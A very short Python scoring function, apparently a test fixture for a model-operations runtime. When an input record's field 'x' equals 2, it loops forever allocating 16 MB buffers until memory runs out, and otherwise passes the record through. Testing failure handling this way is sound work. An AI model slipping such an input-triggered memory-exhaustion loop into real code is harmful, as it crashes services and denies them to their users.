# modelop.score
def score(d):
    if d["x"] == 2:
        hoard = []
        while True:
            hoard.append(bytearray(16 << 20))
    yield d
